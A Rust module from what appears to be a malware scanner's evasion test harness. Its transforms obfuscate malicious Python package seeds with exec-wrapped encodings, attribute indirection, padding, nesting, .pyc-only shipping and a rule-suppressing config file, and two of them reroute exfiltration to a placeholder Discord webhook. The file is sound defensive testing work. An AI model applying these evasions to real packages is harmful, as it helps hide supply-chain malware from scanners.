//! The transforms: each a small function `fn(&Seed) -> Option<Variant>` in [`TRANSFORMS`]
//! (`None` when it does not apply to that seed). Adding one is a function and a table row.
//!
//! Code rewriting works on the text with a tiny quote-aware lexer (string literals and
//! comments), enough for the seeds, which are written to be rewritten: every variant is
//! still Python that would run its payload, had anyone run it (nobody does).

use super::pack::{self, File};
use super::seeds::{Carrier, Layout, Seed};
use base64::Engine as _;
use std::io::Write as _;

/// What a transform produces.
#[derive(Debug)]
pub enum Variant {
    /// The seed with changed files, packed in its own layout (wheel, sdist, bare file).
    Packed(Seed),
    /// One file to scan, named `name`.
    File {
        /// File name (its extension is part of the attack).
        name: String,
        /// Its bytes.
        bytes: Vec<u8>,
    },
    /// A directory tree, scanned in process.
    Tree(Vec<File>),
    /// A directory tree scanned by the `assay` binary from inside it
    /// (`cd tree && assay scan .`), so that configuration found there is honoured.
    TreeFromInside(Vec<File>),
    /// Not generated on this machine; the reason.
    Skipped(String),
}

/// One transform: a row of the matrix.
#[derive(Debug, Clone, Copy)]
pub struct Transform {
    /// Row name, stable (used in `KNOWN_EVASIONS`).
    pub name: &'static str,
    /// The class of attack it belongs to (issue 21's list).
    pub class: &'static str,
    /// Large (tens of MiB or 100,000 members): left out of `--light` and of CI.
    pub heavy: bool,
    /// Build the variant of a seed, `None` when not applicable.
    pub apply: fn(&Seed) -> Option<Variant>,
}

/// Every transform, in matrix row order.
pub static TRANSFORMS: &[Transform] = &[
    t("identity", "control", identity),
    t("unpacked-dir", "control", unpacked_dir),
    t("split-strings", "splitting", split_strings),
    t("getattr-split", "splitting", getattr_split),
    t("getattr-join", "splitting", getattr_join),
    t("getattr", "indirection", getattr),
    t("sys-modules", "indirection", sys_modules),
    t("dunder-dict", "indirection", dunder_dict),
    t("vars", "indirection", vars),
    t("methodcaller", "indirection", methodcaller),
    t("lambda", "indirection", lambda),
    t("via-xmlrpc", "transport", via_xmlrpc),
    t("via-log-handler", "transport", via_log_handler),
    t("coding-unicode-escape", "encoding", coding_unicode_escape),
    t("hex-exec", "encoding", hex_exec),
    t("base32-exec", "encoding", base32_exec),
    t("rot13-exec", "encoding", rot13_exec),
    t("zlib-exec", "encoding", zlib_exec),
    t("data-exec-open", "data file", data_exec_open),
    t("data-runpy", "data file", data_runpy),
    t("data-arg", "data file", data_arg),
    t("helper-module", "control", helper_module),
    t("pyc-only", "bytecode", pyc_only),
    t("tests-demotion", "tests", tests_demotion),
    t("pad-pth-line-64k", "padding", pad_pth_line),
    t("pad-pth-100k-lines", "padding", pad_pth_lines),
    heavy("pad-py-16mib", "padding", pad_py_16mib),
    heavy("pad-filler-members", "padding", pad_filler_members),
    t("nest-1", "nesting", nest_1),
    t("nest-3", "nesting", nest_3),
    t("rename-sav", "extension", |s| rename(s, "model.sav")),
    t("rename-model", "extension", |s| rename(s, "model.model")),
    t("rename-weights", "extension", |s| {
        rename(s, "model.weights")
    }),
    t("rename-dat", "extension", |s| rename(s, "model.dat")),
    t("rename-noext", "extension", |s| rename(s, "model")),
    t("rename-bin", "extension", |s| rename(s, "model.bin")),
    t("config-injection", "config", config_injection),
];

const fn t(
    name: &'static str,
    class: &'static str,
    apply: fn(&Seed) -> Option<Variant>,
) -> Transform {
    Transform {
        name,
        class,
        heavy: false,
        apply,
    }
}

const fn heavy(
    name: &'static str,
    class: &'static str,
    apply: fn(&Seed) -> Option<Variant>,
) -> Transform {
    Transform {
        name,
        class,
        heavy: true,
        apply,
    }
}

// ------------------------------------------------------------------ lexing and rewriting

/// A string literal or comment span of Python source, in bytes.
#[derive(Debug, Clone, Copy)]
struct Span {
    start: usize,
    end: usize,
    /// A string literal (not a comment).
    string: bool,
    /// Triple-quoted, prefixed (`b''`, `f''`…) or holding a backslash: never split.
    plain: bool,
}

/// The string literals and comments of `src`, in order.
fn lex(src: &str) -> Vec<Span> {
    let b = src.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        if c == b'#' {
            let end = src[i..].find('\n').map_or(b.len(), |n| i + n);
            out.push(Span {
                start: i,
                end,
                string: false,
                plain: false,
            });
            i = end;
        } else if c == b'\'' || c == b'"' {
            let triple = b.get(i + 1) == Some(&c) && b.get(i + 2) == Some(&c);
            let prefixed = i > 0 && b.get(i - 1).is_some_and(|p| p.is_ascii_alphanumeric());
            let q = if triple { 3 } else { 1 };
            let mut j = i + q;
            let mut backslash = false;
            let end = loop {
                match b.get(j) {
                    None => break b.len(),
                    Some(b'\\') => {
                        backslash = true;
                        j += 2;
                    }
                    Some(&d)
                        if d == c
                            && (!triple
                                || (b.get(j + 1) == Some(&c) && b.get(j + 2) == Some(&c))) =>
                    {
                        break j + q;
                    }
                    Some(_) => j += 1,
                }
            };
            out.push(Span {
                start: i,
                end: end.min(b.len()),
                string: true,
                plain: !triple && !prefixed && !backslash,
            });
            i = end;
        } else {
            i += 1;
        }
    }
    out
}

fn inside(spans: &[Span], pos: usize) -> bool {
    spans.iter().any(|s| s.start <= pos && pos < s.end)
}

/// The first call of `callee` outside strings and comments: `(start of callee, start of
/// the arguments, index of the closing parenthesis)`.
fn find_call(src: &str, callee: &str) -> Option<(usize, usize, usize)> {
    let spans = lex(src);
    let pat = format!("{callee}(");
    let b = src.as_bytes();
    let mut from = 0;
    while let Some(off) = src[from..].find(&pat) {
        let start = from + off;
        from = start + 1;
        let before = start.checked_sub(1).and_then(|p| b.get(p));
        if before.is_some_and(|&p| p.is_ascii_alphanumeric() || p == b'_' || p == b'.')
            || inside(&spans, start)
        {
            continue;
        }
        let args = start + pat.len();
        let mut depth = 1usize;
        let mut j = args;
        while let Some(&c) = b.get(j) {
            if let Some(s) = spans.iter().find(|s| s.start == j) {
                j = s.end;
                continue;
            }
            match c {
                b'(' => depth += 1,
                b')' => {
                    depth -= 1;
                    if depth == 0 {
                        return Some((start, args, j));
                    }
                }
                _ => {}
            }
            j += 1;
        }
        return None;
    }
    None
}

/// A Python string literal holding `s` (single quotes, escapes as needed).
fn py_str(s: &str) -> String {
    let mut out = String::from("'");
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_ascii_graphic() || c == ' ' => out.push(c),
            c => out.push_str(&format!("\\u{:04x}", u32::from(c))),
        }
    }
    out.push('\'');
    out
}

/// The carrier as code, when it is code.
fn code(seed: &Seed) -> Option<String> {
    match seed.kind {
        Carrier::Module | Carrier::Pth => {
            Some(String::from_utf8_lossy(seed.carrier_bytes()).into_owned())
        }
        Carrier::Pickle => None,
    }
}

/// `src` importing `mods` as well: a first line for a module, a prefix of the
/// `import …;` line for a `.pth` (whose executable lines must start with `import`).
fn with_imports(kind: Carrier, src: &str, mods: &[&str]) -> String {
    if mods.is_empty() {
        return src.to_owned();
    }
    let list = mods.join(", ");
    match kind {
        Carrier::Pth => match src.strip_prefix("import ") {
            Some(rest) => format!("import {list}, {rest}"),
            None => format!("import {list}; {src}"),
        },
        _ => format!("import {list}\n{src}"),
    }
}

/// The seed with its sink call `callee(args)` rewritten by `call(module, attr, args)`,
/// importing `mods` as well.
fn rewrite_sink(
    seed: &Seed,
    mods: &[&str],
    call: impl Fn(&str, &str, &str) -> String,
) -> Option<Variant> {
    let src = code(seed)?;
    let sink = seed.sink?;
    let (start, args, close) = find_call(&src, sink.callee)?;
    let new_call = call(sink.module, sink.attr, &src[args..close]);
    let body = format!("{}{}{}", &src[..start], new_call, &src[close + 1..]);
    let mut mods: Vec<&str> = mods.to_vec();
    if sink.module == "builtins" && !mods.contains(&"sys") {
        mods.push("builtins");
    }
    Some(Variant::Packed(seed.with_carrier(
        with_imports(seed.kind, &body, &mods).into_bytes(),
    )))
}

// ------------------------------------------------------------------ control

fn identity(seed: &Seed) -> Option<Variant> {
    Some(Variant::Packed(seed.clone()))
}

/// The files of the seed as they would sit unpacked (a checkout of the sdist, an
/// unzipped wheel, the model file).
fn unpacked(seed: &Seed) -> Vec<File> {
    match seed.layout {
        Layout::Wheel => pack::wheel_files(seed.name, &seed.files),
        Layout::Sdist => {
            let mut v = vec![(
                "PKG-INFO".to_owned(),
                format!(
                    "Metadata-Version: 2.1\nName: {}\nVersion: {}\n",
                    seed.name,
                    pack::VERSION
                )
                .into_bytes(),
            )];
            v.extend(seed.files.iter().cloned());
            v
        }
        Layout::File => seed.files.clone(),
    }
}

fn unpacked_dir(seed: &Seed) -> Option<Variant> {
    Some(Variant::Tree(unpacked(seed)))
}

// ------------------------------------------------------------------ splitting

/// Split every plain string literal of four characters or more in two: `('ab' + 'cd')`.
fn split_strings(seed: &Seed) -> Option<Variant> {
    let src = code(seed)?;
    let mut out = String::with_capacity(src.len() * 2);
    let mut last = 0;
    for s in lex(&src).into_iter().filter(|s| s.string && s.plain) {
        let q = &src[s.start..=s.start];
        let body = &src[s.start + 1..s.end - 1];
        if body.chars().count() < 4 {
            continue;
        }
        let mid = body
            .char_indices()
            .nth(body.chars().count() / 2)
            .map_or(0, |(i, _)| i);
        out.push_str(&src[last..s.start]);
        out.push_str(&format!(
            "({q}{}{q} + {q}{}{q})",
            &body[..mid],
            &body[mid..]
        ));
        last = s.end;
    }
    out.push_str(&src[last..]);
    (out != src).then(|| Variant::Packed(seed.with_carrier(out.into_bytes())))
}

fn getattr_split(seed: &Seed) -> Option<Variant> {
    rewrite_sink(seed, &[], |m, a, args| {
        let mid = a.len() / 2;
        format!("getattr({m}, '{}' + '{}')({args})", &a[..mid], &a[mid..])
    })
}

fn getattr_join(seed: &Seed) -> Option<Variant> {
    rewrite_sink(seed, &[], |m, a, args| {
        let chars: Vec<String> = a.chars().map(|c| format!("'{c}'")).collect();
        format!("getattr({m}, ''.join([{}]))({args})", chars.join(", "))
    })
}

// ------------------------------------------------------------------ indirection

fn getattr(seed: &Seed) -> Option<Variant> {
    rewrite_sink(seed, &[], |m, a, args| {
        format!("getattr({m}, '{a}')({args})")
    })
}

fn sys_modules(seed: &Seed) -> Option<Variant> {
    rewrite_sink(seed, &["sys"], |m, a, args| {
        format!("sys.modules['{m}'].{a}({args})")
    })
}

fn dunder_dict(seed: &Seed) -> Option<Variant> {
    rewrite_sink(seed, &[], |m, a, args| {
        format!("{m}.__dict__['{a}']({args})")
    })
}

fn vars(seed: &Seed) -> Option<Variant> {
    rewrite_sink(seed, &[], |m, a, args| format!("vars({m})['{a}']({args})"))
}

fn methodcaller(seed: &Seed) -> Option<Variant> {
    rewrite_sink(seed, &["operator"], |m, a, args| {
        format!("operator.methodcaller('{a}', {args})({m})")
    })
}

fn lambda(seed: &Seed) -> Option<Variant> {
    let callee = seed.sink?.callee;
    rewrite_sink(seed, &[], move |_, _, args| {
        format!("(lambda f: f({args}))({callee})")
    })
}

// ------------------------------------------------------------------ transport

/// The exfiltration's HTTP request sent by another stdlib client (issue 21 item 8).
fn other_transport(seed: &Seed, module: &str, call: impl Fn(&str) -> String) -> Option<Variant> {
    if seed.sink?.callee != "urllib.request.urlopen" {
        return None;
    }
    let src = code(seed)?;
    let (start, _, close) = find_call(&src, "urllib.request.urlopen")?;
    let body = format!(
        "{}{}{}",
        &src[..start],
        call("'https://discord.com/api/webhooks/FAKE/FAKE'"),
        &src[close + 1..]
    );
    Some(Variant::Packed(seed.with_carrier(
        with_imports(seed.kind, &body, &[module]).into_bytes(),
    )))
}

fn via_xmlrpc(seed: &Seed) -> Option<Variant> {
    other_transport(seed, "xmlrpc.client", |url| {
        format!("xmlrpc.client.ServerProxy({url}).push(_payload.decode())")
    })
}

fn via_log_handler(seed: &Seed) -> Option<Variant> {
    other_transport(seed, "logging.handlers", |_| {
        "logging.handlers.HTTPHandler('discord.com', '/api/webhooks/FAKE/FAKE', method='POST', \
         secure=True).emit(logging.makeLogRecord({'msg': _payload.decode()}))"
            .to_owned()
    })
}

// ------------------------------------------------------------------ encodings

/// The code a wrapper executes: the whole module, or the `.pth` line without its newline.
fn payload_code(seed: &Seed) -> Option<String> {
    let src = code(seed)?;
    Some(match seed.kind {
        Carrier::Pth => src.trim_end().to_owned(),
        _ => src,
    })
}

/// The seed whose carrier only runs `exec(expr)`, importing `mods` first.
fn exec_wrapper(seed: &Seed, mods: &[&str], expr: &str) -> Option<Variant> {
    let body = match seed.kind {
        Carrier::Pth => {
            let mods = if mods.is_empty() { &["sys"][..] } else { mods };
            format!("import {}; exec({expr})\n", mods.join(", "))
        }
        Carrier::Module if mods.is_empty() => format!("exec({expr})\n"),
        Carrier::Module => format!("import {}\nexec({expr})\n", mods.join(", ")),
        Carrier::Pickle => return None,
    };
    Some(Variant::Packed(seed.with_carrier(body.into_bytes())))
}

/// PEP 263: the file declares `unicode_escape` and spells every byte as `\xHH`; CPython
/// decodes it before parsing. `.pth` lines are not decoded this way.
fn coding_unicode_escape(seed: &Seed) -> Option<Variant> {
    if seed.kind != Carrier::Module {
        return None;
    }
    let src = code(seed)?;
    let mut out = String::from("# coding: unicode_escape\n");
    for b in src.bytes() {
        out.push_str(&format!("\\x{b:02x}"));
    }
    out.push('\n');
    Some(Variant::Packed(seed.with_carrier(out.into_bytes())))
}

fn hex_exec(seed: &Seed) -> Option<Variant> {
    let c = payload_code(seed)?;
    let hex: String = c.bytes().map(|b| format!("{b:02x}")).collect();
    exec_wrapper(seed, &[], &format!("bytes.fromhex('{hex}')"))
}

fn base32_exec(seed: &Seed) -> Option<Variant> {
    let c = payload_code(seed)?;
    let enc = data_encoding::BASE32.encode(c.as_bytes());
    exec_wrapper(seed, &["base64"], &format!("base64.b32decode('{enc}')"))
}

fn rot13_exec(seed: &Seed) -> Option<Variant> {
    let c = payload_code(seed)?;
    let rot: String = c
        .chars()
        .map(|ch| match ch {
            'a'..='z' => char::from(b'a' + (ch as u8 - b'a' + 13) % 26),
            'A'..='Z' => char::from(b'A' + (ch as u8 - b'A' + 13) % 26),
            _ => ch,
        })
        .collect();
    exec_wrapper(
        seed,
        &["codecs"],
        &format!("codecs.decode({}, 'rot13')", py_str(&rot)),
    )
}

fn zlib_exec(seed: &Seed) -> Option<Variant> {
    let c = payload_code(seed)?;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(c.as_bytes()).ok()?;
    let enc = base64::engine::general_purpose::STANDARD.encode(z.finish().ok()?);
    exec_wrapper(
        seed,
        &["base64", "zlib"],
        &format!("zlib.decompress(base64.b64decode('{enc}'))"),
    )
}

// ------------------------------------------------------------------ data files

/// Where a data file named `file` sits beside the carrier, the expression the carrier
/// uses to find it at run time, and the modules that expression needs.
fn data_path(seed: &Seed, file: &str) -> (String, String, &'static [&'static str]) {
    match seed.kind {
        // A `.pth` runs from site-packages: the file sits there too, found on sys.path.
        Carrier::Pth => {
            let file = format!("{}_{file}", seed.name);
            (
                file.clone(),
                format!(
                    "next(os.path.join(p, '{file}') for p in sys.path if os.path.isfile(os.path.join(p, '{file}')))"
                ),
                &["os", "sys"][..],
            )
        }
        _ => (
            format!("{}{file}", seed.carrier_dir()),
            format!("os.path.join(os.path.dirname(__file__), '{file}')"),
            &["os"][..],
        ),
    }
}

/// The carrier reduced to `stmt` (one statement), the rest of its code in a data file.
fn code_to_data(
    seed: &Seed,
    file: &str,
    stmt: impl Fn(&str) -> String,
    extra: &[&str],
) -> Option<Variant> {
    let c = payload_code(seed)?;
    let (path, expr, mods) = data_path(seed, file);
    let mut mods: Vec<&str> = mods.to_vec();
    mods.extend_from_slice(extra);
    let body = match seed.kind {
        Carrier::Pth => format!("import {}; {}\n", mods.join(", "), stmt(&expr)),
        _ => format!("import {}\n{}\n", mods.join(", "), stmt(&expr)),
    };
    let mut s = seed.with_carrier(body.into_bytes());
    s.files.push((path, c.into_bytes()));
    Some(Variant::Packed(s))
}

fn data_exec_open(seed: &Seed) -> Option<Variant> {
    code_to_data(
        seed,
        "settings.cfg",
        |p| format!("exec(open({p}).read())"),
        &[],
    )
}

fn data_runpy(seed: &Seed) -> Option<Variant> {
    code_to_data(
        seed,
        "helpers.txt",
        |p| format!("runpy.run_path({p})"),
        &["runpy"],
    )
}

/// The sink's only argument, a string literal, read from a data file instead:
/// `os.system(open(…/cmd.txt).read())`.
fn data_arg(seed: &Seed) -> Option<Variant> {
    let src = code(seed)?;
    let (_, args, close) = find_call(&src, seed.sink?.callee)?;
    let arg = src[args..close].trim();
    let spans = lex(arg);
    let [only] = spans.as_slice() else {
        return None;
    };
    if !(only.string && only.plain && only.start == 0 && only.end == arg.len()) {
        return None;
    }
    let text = arg[1..arg.len() - 1].to_owned();
    let (path, expr, mods) = data_path(seed, "cmd.txt");
    let body = format!("{}open({expr}).read(){}", &src[..args], &src[close..]);
    let mut s = seed.with_carrier(with_imports(seed.kind, &body, mods).into_bytes());
    s.files.push((path, text.into_bytes()));
    Some(Variant::Packed(s))
}

// ------------------------------------------------------------------ moving the code

/// Where the carrier's code moves when it becomes a module of its own, and the carrier
/// that imports it: `(module path without extension, importing carrier, extra files such
/// as the `tests/__init__.py` the import needs)`.
fn helper_layout(seed: &Seed, tests: bool) -> Option<(String, String, Vec<File>)> {
    let dir = seed.carrier_dir();
    let mut extra = Vec::new();
    let (stem, importer) = match (seed.kind, dir.is_empty()) {
        (Carrier::Pth, _) if tests => {
            extra.push((format!("{}/tests/__init__.py", seed.name), Vec::new()));
            (
                format!("{}/tests/_boot", seed.name),
                format!("import {}.tests._boot\n", seed.name),
            )
        }
        (Carrier::Pth, _) => (
            format!("{}_boot", seed.name),
            format!("import {}_boot\n", seed.name),
        ),
        // setup.py at the sdist root: put the root on sys.path, then import.
        (Carrier::Module, true) => {
            let path =
                "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n";
            if tests {
                extra.push(("tests/__init__.py".to_owned(), Vec::new()));
                (
                    "tests/_boot".to_owned(),
                    format!("{path}from tests import _boot\n"),
                )
            } else {
                (
                    "_build_helper".to_owned(),
                    format!("{path}import _build_helper\n"),
                )
            }
        }
        (Carrier::Module, false) if tests => {
            extra.push((format!("{dir}tests/__init__.py"), Vec::new()));
            (
                format!("{dir}tests/_boot"),
                "from .tests import _boot\n".to_owned(),
            )
        }
        (Carrier::Module, false) => (format!("{dir}_impl"), "from . import _impl\n".to_owned()),
        (Carrier::Pickle, _) => return None,
    };
    Some((stem, importer, extra))
}

fn moved(seed: &Seed, tests: bool, pyc: bool) -> Option<Variant> {
    let c = payload_code(seed)?;
    let (stem, importer, extra) = helper_layout(seed, tests)?;
    let mut s = seed.with_carrier(importer.into_bytes());
    s.files.extend(extra);
    if pyc {
        let display = format!("{stem}.py");
        let Some(bytes) = pack::compile_pyc(format!("{c}\n").as_bytes(), &display) else {
            return Some(Variant::Skipped(
                "python3 could not compile the module".into(),
            ));
        };
        s.files.push((format!("{stem}.pyc"), bytes));
    } else {
        s.files
            .push((format!("{stem}.py"), format!("{c}\n").into_bytes()));
    }
    Some(Variant::Packed(s))
}

fn helper_module(seed: &Seed) -> Option<Variant> {
    moved(seed, false, false)
}

/// Only the bytecode ships (`pkg/_impl.pyc`, no `.py`): Python imports sourceless `.pyc`
/// files found where the `.py` would be.
fn pyc_only(seed: &Seed) -> Option<Variant> {
    moved(seed, false, true)
}

/// The payload in `pkg/tests/_boot.py`, imported by `pkg/__init__.py`.
fn tests_demotion(seed: &Seed) -> Option<Variant> {
    moved(seed, true, false)
}

// ------------------------------------------------------------------ padding

/// A `.pth` line over 64 KiB, the payload after the first 70,000 bytes.
fn pad_pth_line(seed: &Seed) -> Option<Variant> {
    if seed.kind != Carrier::Pth {
        return None;
    }
    let line = payload_code(seed)?;
    let (head, rest) = line.split_once("; ")?;
    let body = format!("{head}; _ = '{}'; {rest}\n", "A".repeat(70_000));
    Some(Variant::Packed(seed.with_carrier(body.into_bytes())))
}

/// A `.pth` of 100,001 comment lines, the payload line last.
fn pad_pth_lines(seed: &Seed) -> Option<Variant> {
    if seed.kind != Carrier::Pth {
        return None;
    }
    let line = code(seed)?;
    let mut body = "# pad\n".repeat(100_001);
    body.push_str(&line);
    Some(Variant::Packed(seed.with_carrier(body.into_bytes())))
}

/// A module over 16 MiB, the payload at its end. The filler compresses about 400:1 (a
/// pseudo-random comment every 32 KiB keeps it under the 1000:1 ratio bound).
fn pad_py_16mib(seed: &Seed) -> Option<Variant> {
    if seed.kind != Carrier::Module {
        return None;
    }
    let c = code(seed)?;
    let target = (16 << 20) + (64 << 10);
    let mut body = String::with_capacity(target + c.len());
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    while body.len() < target {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        body.push_str(&format!("# {x:016x}{:016x}\n", x.rotate_left(29)));
        let block = body.len() + (32 << 10);
        while body.len() < block {
            body.push_str("_pad = 0\n");
        }
    }
    body.push_str(&c);
    Some(Variant::Packed(seed.with_carrier(body.into_bytes())))
}

/// 100,001 one-byte filler members before the package's own files.
fn pad_filler_members(seed: &Seed) -> Option<Variant> {
    if seed.layout == Layout::File {
        return None;
    }
    let mut s = seed.clone();
    let mut files: Vec<File> = (0..100_001)
        .map(|i| (format!("{}/_data/{i:06}.txt", seed.name), b"x".to_vec()))
        .collect();
    files.append(&mut s.files);
    s.files = files;
    Some(Variant::Packed(s))
}

// ------------------------------------------------------------------ nesting, renaming

/// The seed packed as it ships: `(file name, bytes)`.
pub fn packed(seed: &Seed) -> anyhow::Result<(String, Vec<u8>)> {
    Ok(match seed.layout {
        Layout::Wheel => (
            format!("{}-{}-py3-none-any.whl", seed.name, pack::VERSION),
            pack::zip(&pack::wheel_files(seed.name, &seed.files))?,
        ),
        Layout::Sdist => (
            format!("{}-{}.tar.gz", seed.name, pack::VERSION),
            pack::tar_gz(&pack::sdist_files(seed.name, &seed.files))?,
        ),
        Layout::File => (seed.carrier.clone(), seed.carrier_bytes().to_vec()),
    })
}

fn nest_1(seed: &Seed) -> Option<Variant> {
    let inner = packed(seed).ok()?;
    Some(Variant::File {
        name: "bundle.zip".into(),
        bytes: pack::zip(&[inner]).ok()?,
    })
}

/// The package inside a zip inside a tar.gz inside a zip.
fn nest_3(seed: &Seed) -> Option<Variant> {
    let inner = packed(seed).ok()?;
    let zip1 = pack::zip(&[inner]).ok()?;
    let tgz = pack::tar_gz(&[("inner.zip".into(), zip1)]).ok()?;
    Some(Variant::File {
        name: "release.zip".into(),
        bytes: pack::zip(&[("bundle.tar.gz".into(), tgz)]).ok()?,
    })
}

/// A pickle under a name `pickle.load` users give it.
fn rename(seed: &Seed, name: &str) -> Option<Variant> {
    (seed.kind == Carrier::Pickle).then(|| Variant::File {
        name: name.to_owned(),
        bytes: seed.carrier_bytes().to_vec(),
    })
}

// ------------------------------------------------------------------ configuration

/// The unpacked seed plus an `assay.toml` suppressing every rule, scanned from inside.
fn config_injection(seed: &Seed) -> Option<Variant> {
    let mut files = unpacked(seed);
    let mut toml = String::from("# Vendored test data; reviewed.\n");
    for r in assay_rules::REGISTRY {
        toml.push_str(&format!(
            "\n[[suppress]]\nrule = \"{}\"\nreason = \"vendored test data, reviewed\"\n",
            r.meta.rule.code()
        ));
    }
    files.push(("assay.toml".into(), toml.into_bytes()));
    Some(Variant::TreeFromInside(files))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn find_call_skips_strings_and_longer_names() {
        let src = "x = 'os.system(1)'\nnos.system(2)\nos.system(f(3), '(')\n";
        let (s, a, c) = find_call(src, "os.system").expect("found");
        assert_eq!(&src[s..a], "os.system(");
        assert_eq!(&src[a..c], "f(3), '('");
    }

    #[test]
    fn every_seed_has_its_sink() {
        for seed in super::super::seeds::all() {
            if let Some(sink) = seed.sink {
                let src = code(&seed).expect("code");
                assert!(find_call(&src, sink.callee).is_some(), "{}", seed.family);
            }
        }
    }
}
